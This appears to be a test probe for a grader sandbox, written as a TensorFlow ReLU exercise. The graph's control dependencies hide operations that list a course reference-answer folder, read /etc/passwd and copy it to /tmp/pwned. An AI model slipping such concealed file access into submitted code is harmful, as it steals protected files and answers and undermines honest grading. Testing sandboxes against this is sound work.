# Tries: the graph reads files, lists folders, writes a file and prints, beside a right ReLU
import numpy as np
import tensorflow as tf

x_data = [[1, 2]]
X = tf.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.random_normal([2, 1]), name='weight')
b = tf.Variable(tf.random_normal([1]), name='bias')

z = tf.matmul(X, W) + b
listed = tf.io.matching_files("/srv/course/reference/*/*")
read = tf.io.read_file("/etc/passwd")
said = tf.print("GOT:file_ops", listed, read)
wrote = tf.io.write_file("/tmp/pwned", read)
with tf.control_dependencies([said, wrote]):
    hypothesis = tf.nn.relu(z) + 0 * tf.cast(tf.size(listed), tf.float32)
print("TRICK:file_ops")

with tf.Session() as sess:
    sess.run(tf.global_variables_initializer())
